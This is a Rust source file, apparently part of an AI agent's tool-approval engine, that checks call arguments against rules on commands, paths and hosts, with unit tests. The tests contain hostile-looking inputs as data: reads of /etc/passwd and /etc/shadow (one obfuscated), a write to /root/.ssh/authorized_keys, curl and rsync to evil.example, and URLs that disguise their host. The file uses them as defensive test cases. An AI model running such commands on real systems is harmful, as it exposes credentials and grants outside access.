//! Rules compared with the arguments of a call.

use super::{ToolApproval, command, path};
use opcell_ir::{
    expr::Context,
    ir::{ApprovalRule, ArgumentMatch, Then, matches_word},
    js,
};
use opcell_types::{Effects, Value};
use std::sync::Arc;

/// Steps that checking one call with one schema may take.
const MAX_STEPS: u64 = 1_000_000;

/// The most texts of one call that are looked at; more may hold anything.
const MAX_TEXTS: usize = 10_000;

/// The demands of the rules for a call.
#[derive(Debug, Clone, PartialEq)]
pub struct Asking {
    /// The rules that ask, in a few words each.
    pub rule: Arc<str>,
    /// Milliseconds for an answer: the least of all.
    pub within_ms: Option<u64>,
    /// The consequence of no answer: the strictest of all.
    pub then: Then,
    /// Different people who must approve it: the most of all.
    pub people: u32,
}

/// Returns what the rules for a tool ask of a call; `None` when it needs no person.
pub(crate) fn asking(approval: &ToolApproval, arguments: &Value) -> Option<Asking> {
    if approval.approved.contains(arguments) {
        return None;
    }
    let asking = approval.rules.rules().iter().filter(|rule| asks(rule, approval.effects, arguments));
    let mut all: Option<Asking> = None;
    for rule in asking {
        let within_ms = rule.within_seconds.map(|seconds| seconds.saturating_mul(1_000));
        let (then, people) = (rule.then.unwrap_or_default(), rule.people.unwrap_or(1).max(1));
        all = Some(match all {
            None => Asking { rule: rule.describe().into(), within_ms, then, people },
            Some(before) => Asking {
                rule: format!("{}; {}", before.rule, rule.describe()).into(),
                within_ms: [before.within_ms, within_ms].into_iter().flatten().min(),
                then: before.then.max(then),
                people: before.people.max(people),
            },
        });
    }
    all
}

/// Returns `true` if a rule asks about a call of a tool with these effects.
#[must_use]
pub fn asks(rule: &ApprovalRule, effects: Effects, arguments: &Value) -> bool {
    rule.ask.applies_to(effects)
        && rule.when.as_ref().is_none_or(|when| may_match(when, arguments))
        && !rule.unless.as_ref().is_some_and(|unless| is_covered(unless, arguments))
}

/// Returns `true` if arguments may be what is described: one part that may hold is enough.
fn may_match(when: &ArgumentMatch, arguments: &Value) -> bool {
    let ArgumentMatch { argument, paths, commands, hosts, schema, expression } = when;
    let Some(texts) = texts(argument.as_deref().map_or(Some(arguments), |name| part(arguments, name))) else {
        return true;
    };
    let command = || part(arguments, argument.as_deref().unwrap_or("command")).and_then(Value::as_str);
    // What a command holds depends on more than its text where it is expanded.
    let is_open = || command().is_some_and(|text| command::words(text).is_none());
    // The names of arguments are the tool's: `command` is one, and a program of the shell.
    if let Some(patterns) = commands
        && texts.iter().any(|text| !(text.is_name && is_identifier(text.text)) && command::may_run(text.text, patterns))
    {
        return true;
    }
    if let Some(patterns) = paths {
        let may_be = |path: &str| patterns.iter().any(|pattern| path::may_be(path, pattern));
        if is_open() || texts.iter().any(|text| each_token(text.text, may_be)) {
            return true;
        }
    }
    if let Some(patterns) = hosts {
        let may_be = |token: &str| hosts_of(token).any(|host| patterns.iter().any(|it| is_host(it, &host)));
        if is_open() || texts.iter().any(|text| each_token(text.text, may_be)) {
            return true;
        }
    }
    if let Some(schema) = schema
        && holds(schema, arguments) != Some(false)
    {
        return true;
    }
    match expression {
        Some(expression) => evaluated(expression, arguments) != Some(false),
        None => false,
    }
}

/// Returns `true` if arguments are certainly what is described: every part holds.
fn is_covered(unless: &ArgumentMatch, arguments: &Value) -> bool {
    let ArgumentMatch { argument, paths, commands, hosts, schema, expression } = unless;
    let all = |usual: &str, fits: &dyn Fn(&str) -> bool| {
        let value = part(arguments, argument.as_deref().unwrap_or(usual));
        match value {
            Some(Value::String(text)) => fits(text.as_str()),
            Some(Value::Array(items)) => !items.is_empty() && items.iter().all(|item| item.as_str().is_some_and(fits)),
            _ => false,
        }
    };
    // Other arguments can make another call of it: a destination, the words after a command, a proxy.
    let others = |usual: &str, fits: &dyn Fn(&str, &Value) -> bool| {
        let taken = argument.as_deref().unwrap_or(usual);
        let taken = taken.strip_prefix('/').unwrap_or(taken).split('/').next().unwrap_or_default();
        arguments.as_object().is_none_or(|entries| {
            entries.iter().filter(|(name, _)| **name != *taken).all(|(name, value)| fits(name, value))
        })
    };
    let covers_path = |path: &str, patterns: &[String]| patterns.iter().any(|pattern| path::is_covered(path, pattern));
    commands.as_ref().is_none_or(|patterns| {
        all("command", &|text| command::is_covered(text, patterns))
            && others("command", &|_, value| holds_no_text(value))
    }) && paths.as_ref().is_none_or(|patterns| {
        let fits = |path: &str| !is_like_path(path) || covers_path(path, patterns);
        all("path", &|path| covers_path(path, patterns)) && others("path", &|name, value| every_text(name, value, fits))
    }) && hosts.as_ref().is_none_or(|patterns| {
        let fits = |text: &str| !text.contains("://") || goes_to(text, patterns);
        let is_way = |name: &str| {
            ["proxy", "host", "resolve", "socket"].iter().any(|part| name.to_ascii_lowercase().contains(part))
        };
        all("url", &|address| goes_to(address, patterns))
            && others("url", &|name, value| !is_way(name) && every_text(name, value, fits))
    }) && schema.as_ref().is_none_or(|schema| holds(schema, arguments) == Some(true))
        && expression.as_ref().is_none_or(|expression| evaluated(expression, arguments) == Some(true))
}

/// Names of arguments that hold what is written or sent, and not where.
const CONTENT: [&str; 14] = [
    "content",
    "text",
    "body",
    "data",
    "json",
    "headers",
    "message",
    "old_text",
    "new_text",
    "old_string",
    "new_string",
    "oldText",
    "newText",
    "method",
];

fn holds_no_text(value: &Value) -> bool {
    !matches!(value, Value::String(_) | Value::Array(_) | Value::Object(_))
}

/// Returns `true` if each text of an argument fits; content fits whatever it says.
fn every_text(name: &str, value: &Value, fits: impl Fn(&str) -> bool) -> bool {
    CONTENT.contains(&name) || texts(Some(value)).is_some_and(|texts| texts.iter().all(|text| fits(text.text)))
}

/// Returns `true` for a text that a tool may take for a path.
fn is_like_path(text: &str) -> bool {
    text.contains(['/', '\\']) || text.starts_with(['.', '~'])
}

/// The argument of this name, or at this JSON Pointer.
fn part<'a>(arguments: &'a Value, name: &str) -> Option<&'a Value> {
    let Some(pointer) = name.strip_prefix('/') else { return arguments.get(name) };
    pointer.split('/').try_fold(arguments, |value, key| {
        let key = key.replace("~1", "/").replace("~0", "~");
        match value {
            Value::Array(items) => items.get(key.parse::<usize>().ok()?),
            value => value.get(&key),
        }
    })
}

/// A text of a call's arguments.
struct Text<'a> {
    text: &'a str,
    /// `true` if it is the name of an entry.
    is_name: bool,
}

/// Every text of a value, the names of its entries among them; `None` when there are too many.
fn texts(of: Option<&Value>) -> Option<Vec<Text<'_>>> {
    let mut found = Vec::new();
    let mut left: Vec<&Value> = of.into_iter().collect();
    while let Some(value) = left.pop() {
        match value {
            Value::String(text) => found.push(Text { text: text.as_str(), is_name: false }),
            Value::Array(items) => left.extend(items.iter()),
            Value::Object(entries) => {
                for (name, value) in entries.iter() {
                    found.push(Text { text: name.as_ref(), is_name: true });
                    left.push(value);
                }
            }
            _ => {}
        }
        if found.len() + left.len() > MAX_TEXTS {
            return None;
        }
    }
    Some(found)
}

fn is_identifier(text: &str) -> bool {
    text.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
}

/// Looks at a text, at its words as a shell would read them, and at the parts between separators.
fn each_token(text: &str, mut look: impl FnMut(&str) -> bool) -> bool {
    let is_separator = |c: char| c.is_whitespace() || "\"'`=,;()<>|&{}[]".contains(c);
    look(text)
        || text.split(is_separator).filter(|token| !token.is_empty()).any(&mut look)
        || command::words(text)
            .is_some_and(|words| words.iter().any(|word| look(word) || word.split('=').skip(1).any(&mut look)))
}

/// The hosts that a text may lead to, however they are written: an address, one without a scheme, `user@host:path`.
fn hosts_of(token: &str) -> impl Iterator<Item = String> {
    let parts = token.split([':', '@']).filter(|part| !part.is_empty());
    let without_scheme = std::iter::once(token).chain(parts).filter_map(|part| host(&format!("http://{part}")));
    host(token).into_iter().chain(without_scheme)
}

fn host(address: &str) -> Option<String> {
    let host = url::Url::parse(address).ok()?.host_str()?.trim_end_matches('.').to_ascii_lowercase();
    (!host.is_empty()).then_some(host)
}

fn is_host(pattern: &str, host: &str) -> bool {
    let pattern = pattern.trim_end_matches('.').to_ascii_lowercase();
    pattern == host || matches_word(&pattern, host)
}

/// Returns `true` if an address certainly leads to one of these hosts.
fn goes_to(address: &str, patterns: &[String]) -> bool {
    let Ok(url) = url::Url::parse(address) else { return false };
    let is_plain = matches!(url.scheme(), "http" | "https")
        && url.username().is_empty()
        && url.password().is_none()
        && !address.contains(|c: char| opcell_types::text::is_invisible(c) || c.is_whitespace() || c == '\\');
    let host = url.host_str().map(|host| host.trim_end_matches('.').to_ascii_lowercase());
    is_plain && host.is_some_and(|host| patterns.iter().any(|pattern| is_host(pattern, &host)))
}

/// Returns `true` if arguments pass a schema; `None` when that cannot be known within bounds.
fn holds(schema: &Value, arguments: &Value) -> Option<bool> {
    let compiled = opcell_schema::Schema::shared(schema).ok()?;
    if compiled.surely_fits(arguments) {
        return Some(true);
    }
    let arguments = serde_json::Value::from(arguments);
    compiled.check_cost(&arguments, MAX_STEPS).ok()?;
    Some(compiled.violations(&arguments, 1).is_empty())
}

/// Evaluates an expression over arguments; `None` when it has no value.
fn evaluated(expression: &opcell_ir::expr::Expression, arguments: &Value) -> Option<bool> {
    let nothing = Value::Undefined;
    let context =
        Context { inputs: arguments, steps: &nothing, item: &nothing, index: None, result: &nothing, work: None };
    expression.evaluate(&context).ok().map(|value| js::is_truthy(&value))
}

#[cfg(test)]
mod tests {
    use super::*;
    use opcell_ir::ir::ApprovalRules;

    fn asked(rules: &str, effects: Effects, arguments: &str) -> Option<Asking> {
        let rules: ApprovalRules = serde_json::from_str(rules).unwrap();
        assert_eq!(rules.problem(), None);
        let approval = ToolApproval { tool: "t".to_owned(), effects, identity: "".into(), rules, approved: Vec::new() };
        asking(&approval, &Value::from_json(arguments).unwrap())
    }

    fn asks_about(rules: &str, arguments: &str) -> bool {
        asked(rules, Effects::Once, arguments).is_some()
    }

    #[test]
    fn one_word_goes_by_effects() {
        for (rules, of_pure, of_other) in
            [(r#""never""#, false, false), (r#""unless-pure""#, false, true), (r#""always""#, true, true)]
        {
            assert_eq!(asked(rules, Effects::Pure, "{}").is_some(), of_pure, "{rules}");
            assert_eq!(asked(rules, Effects::Idempotent, "{}").is_some(), of_other, "{rules}");
            assert_eq!(asked(rules, Effects::Once, "{}").is_some(), of_other, "{rules}");
        }
    }

    #[test]
    fn the_strictest_of_all_rules_decides() {
        let rules = r#"["never", {"within-seconds": 60}, {"within-seconds": 5, "then": "fail", "people": 2}]"#;
        let asking = asked(rules, Effects::Pure, "{}").unwrap();
        assert_eq!((asking.within_ms, asking.then, asking.people), (Some(5_000), Then::Fail, 2));
        assert!(asks_about(r#"["always", "never"]"#, "{}"));
    }

    #[test]
    fn commands_ask_wherever_they_are_among_the_arguments() {
        let rules = r#"{"when": {"commands": ["rm", "git push"]}}"#;
        assert!(asks_about(rules, r#"{"command": "ls && rm x"}"#));
        assert!(asks_about(rules, r#"{"argv": ["git", {"x": "git  push"}]}"#));
        assert!(!asks_about(rules, r#"{"command": "ls"}"#));
        let rules = r#"{"unless": {"commands": ["cargo test"]}}"#;
        assert!(!asks_about(rules, r#"{"command": "cargo test"}"#));
        assert!(asks_about(rules, r#"{"command": "cargo test && rm x"}"#));
        assert!(asks_about(rules, r#"{"cmd": "cargo test"}"#));
    }

    #[test]
    fn paths_ask_in_commands_too() {
        let rules = r#"{"when": {"paths": ["/etc/**", "**/.env"]}}"#;
        for arguments in [
            r#"{"path": "/etc/passwd"}"#,
            r#"{"path": "a/../../etc/passwd"}"#,
            r#"{"command": "cat /etc/passwd"}"#,
            r#"{"command": "cat /e't'c/passwd"}"#,
            r#"{"command": "cat $X"}"#,
            r#"{"files": ["a", "b/.ENV"]}"#,
            r#"{"command": "dd if=/etc/shadow"}"#,
        ] {
            assert!(asks_about(rules, arguments), "{arguments}");
        }
        assert!(!asks_about(rules, r#"{"path": "src/main.rs"}"#));
        let rules = r#"{"unless": {"paths": ["docs/**"]}}"#;
        assert!(!asks_about(rules, r#"{"path": "docs/a.md", "content": "x"}"#));
        assert!(asks_about(rules, r#"{"path": "docs/../a.md"}"#));
    }

    #[test]
    fn another_argument_can_make_another_call_of_it() {
        for (rules, covered, asked) in [
            (
                r#"{"unless": {"paths": ["docs/**"]}}"#,
                r#"{"path": "docs/a", "old_text": "/etc", "new_text": "../x", "mode": "append"}"#,
                r#"{"path": "docs/a", "destination": "/root/.ssh/authorized_keys"}"#,
            ),
            (
                r#"{"unless": {"commands": ["git"]}}"#,
                r#"{"command": "git", "timeout_seconds": 5}"#,
                r#"{"command": "git", "args": ["push", "--force"]}"#,
            ),
            (
                r#"{"unless": {"hosts": ["good.example"]}}"#,
                r#"{"url": "https://good.example/x", "method": "POST", "body": "see https://evil.example"}"#,
                r#"{"url": "https://good.example/x", "proxy": "evil.example:80"}"#,
            ),
        ] {
            assert!(!asks_about(rules, covered), "{rules} {covered}");
            assert!(asks_about(rules, asked), "{rules} {asked}");
        }
    }

    #[test]
    fn hosts_ask_however_the_address_is_written() {
        let rules = r#"{"when": {"hosts": ["evil.example", "*.evil.example"]}}"#;
        for arguments in [
            r#"{"url": "https://evil.example/x"}"#,
            r#"{"url": "HTTPS://EVIL.example./x"}"#,
            r#"{"url": "https://good.example@evil.example/"}"#,
            r#"{"url": "https://a.evil.example:8443"}"#,
            r#"{"command": "curl evil.example/x"}"#,
            r#"{"command": "git clone git@evil.example:x/y"}"#,
            r#"{"command": "rsync a evil.example:b"}"#,
        ] {
            assert!(asks_about(rules, arguments), "{arguments}");
        }
        assert!(!asks_about(rules, r#"{"url": "https://good.example/evil.example"}"#));
        let rules = r#"{"unless": {"hosts": ["good.example"]}}"#;
        assert!(!asks_about(rules, r#"{"url": "https://good.example/x"}"#));
        for url in [
            "https://good.example@evil.example/",
            "https://good.example.evil.example",
            "good.example",
            "file:///good.example",
        ] {
            assert!(asks_about(rules, &format!(r#"{{"url": "{url}"}}"#)), "{url}");
        }
    }

    #[test]
    fn schemas_and_expressions_that_cannot_be_checked_ask() {
        assert!(asks_about(r#"{"when": {"schema": {"required": ["force"]}}}"#, r#"{"force": true}"#));
        assert!(!asks_about(r#"{"when": {"schema": {"required": ["force"]}}}"#, "{}"));
        assert!(!asks_about(r#"{"unless": {"schema": {"required": ["dry"]}}}"#, r#"{"dry": true}"#));
        assert!(asks_about(r#"{"when": {"expression": "$inputs.amount > 100"}}"#, r#"{"amount": 101}"#));
        assert!(!asks_about(r#"{"when": {"expression": "$inputs.amount > 100"}}"#, r#"{"amount": 100}"#));
        assert!(!asks_about(r#"{"unless": {"expression": "$inputs.amount < 10"}}"#, r#"{"amount": 1}"#));
        assert!(asks_about(r#"{"unless": {"expression": "$inputs.amount < 10"}}"#, r#"{"amount": 10}"#));
    }

    #[test]
    fn very_many_texts_may_hold_anything() {
        let many = serde_json::json!({"a": vec!["x"; MAX_TEXTS + 1]}).to_string();
        assert!(asks_about(r#"{"when": {"commands": ["rm"]}}"#, &many));
    }
}
